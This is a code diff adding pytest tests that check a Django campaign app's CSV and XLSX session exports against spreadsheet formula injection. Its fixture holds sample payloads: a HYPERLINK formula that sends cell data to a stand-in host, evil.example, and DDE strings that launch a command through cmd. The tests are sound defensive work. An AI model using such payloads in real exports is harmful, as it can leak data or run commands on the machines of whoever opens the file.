@@ -19,6 +19,7 @@ from tests.campaigns.factories import (
     jpeg_bytes,
     volunteer_in,
 )
+from tests.factories import UserFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -277,6 +278,54 @@ def test_county_figures_export_as_xlsx(client, campaign, regions):
     rows = [list(r) for r in sheet.iter_rows(values_only=True)]
     assert len(rows) == 4  # header and the three target counties
     assert rows[3][:6] == ["522634", "雷山县", "黔东南苗族侗族自治州", "贵州省", 2, 42]
+
+
+HOSTILE = {
+    "venue_name": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
+    "topics": "+1+cmd|' /C calc'!A0",
+    "display_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def _hostile_log(campaign, regions):
+    volunteer = UserFactory(display_name=HOSTILE["display_name"])
+    return approved(
+        campaign,
+        regions["leishan"],
+        30,
+        venue_name=HOSTILE["venue_name"],
+        topics=HOSTILE["topics"],
+        volunteer=volunteer,
+    )
+
+
+def test_text_typed_by_a_volunteer_never_becomes_a_formula_in_the_csv(client, campaign, regions):
+    # Given a log whose every typed text starts like a formula
+    _hostile_log(campaign, regions)
+    client.force_login(coordinator_of(campaign))
+
+    # When the coordinator exports the sessions as CSV
+    answer = client.get(f"/campaigns/{campaign.pk}/export/sessions.csv")
+
+    # Then each such cell opens as the text typed, marked with a leading apostrophe
+    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode("utf-8-sig"))))
+    for typed in HOSTILE.values():
+        assert "'" + typed in rows[1]
+        assert typed not in rows[1]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
+
+
+def test_text_typed_by_a_volunteer_is_text_in_the_xlsx(client, campaign, regions):
+    _hostile_log(campaign, regions)
+    client.force_login(coordinator_of(campaign))
+
+    answer = client.get(f"/campaigns/{campaign.pk}/export/sessions.xlsx")
+
+    sheet = load_workbook(io.BytesIO(b"".join(answer.streaming_content))).active
+    cells = {c.value: c for c in next(sheet.iter_rows(min_row=2, max_row=2))}
+    for typed in HOSTILE.values():
+        assert cells[typed].data_type == "s"  # a string cell, exactly as typed; never "f"
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
 
 
 def test_another_coordinator_cannot_export(client, campaign):
